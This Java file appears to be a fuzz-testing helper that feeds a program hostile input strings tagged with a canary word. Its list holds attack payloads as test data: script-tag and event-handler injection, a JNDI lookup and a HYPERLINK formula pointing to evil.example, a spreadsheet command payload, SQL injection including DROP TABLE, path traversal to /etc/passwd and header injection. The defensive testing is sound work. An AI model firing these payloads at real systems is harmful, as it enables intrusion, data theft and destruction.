package org.tadamun.system.hostile;

import java.util.List;
import java.util.Random;

/** Values that have broken programs before. Each contains the canary, so that an echo is found. */
final class HostileText {

  /** A word in no text of the program. */
  static final String CANARY = "qzfuzzq";

  private static final List<String> VALUES =
      List.of(
          CANARY,
          "",
          " ",
          "\u0000" + CANARY,
          CANARY + "\u0007\u001b[31m",
          CANARY + "\r\nX-Injected: yes",
          CANARY + "\nBcc: all@evil.example",
          CANARY + "\u202egnp.exe",
          CANARY + "\ud800",
          CANARY + "\ufeff\uffff",
          "<script>alert('" + CANARY + "')</script>",
          "<img src=x onerror=alert('" + CANARY + "')>",
          "\"><svg/onload=alert('" + CANARY + "')>",
          "#{" + CANARY + ".class}",
          "${jndi:ldap://evil.example/" + CANARY + "}",
          "{{7*7}}" + CANARY,
          "=HYPERLINK(\"http://evil.example/" + CANARY + "\")",
          "@SUM(A1:A9)" + CANARY,
          "+1+cmd|' /C calc'!" + CANARY,
          "' OR '1'='1' -- " + CANARY,
          "'; DROP TABLE petition_signature; -- " + CANARY,
          "1 UNION SELECT * FROM kernel_staff " + CANARY,
          "../../../../etc/passwd" + CANARY,
          "..\\..\\windows\\" + CANARY,
          "/WEB-INF/web.xml" + CANARY,
          "%00%0d%0aX-Injected:%20yes" + CANARY,
          "%" + CANARY,
          "99999999999999999999" + CANARY,
          "1e400",
          "-1",
          "9223372036854775807",
          "9223372036854775808",
          "2026-02-31T25:61:61Z",
          "+999999999-12-31T23:59:59Z",
          "-999999999-01-01T00:00:00Z",
          "0000-00-00",
          "\ud83c\udff4\u200d\u2620\ufe0f" + CANARY,
          "\u0645\u0631\u062d\u0628\u0627 " + CANARY,
          "e\u0301".repeat(40) + CANARY,
          "null",
          "true",
          "[]",
          "{}",
          CANARY + "@example.org",
          "a@" + "b".repeat(300) + ".example");

  private HostileText() {}

  static String any(Random random) {
    if (random.nextInt(40) == 0) {
      return (CANARY + "x").repeat(1 + random.nextInt(3000));
    }
    if (random.nextInt(12) == 0) {
      return noise(random);
    }
    return VALUES.get(random.nextInt(VALUES.size()));
  }

  /** Random code points. */
  private static String noise(Random random) {
    StringBuilder text = new StringBuilder(CANARY);
    for (int i = random.nextInt(30); i >= 0; i--) {
      text.appendCodePoint(random.nextInt(random.nextBoolean() ? 0x100 : 0x10000));
    }
    return text.toString();
  }
}
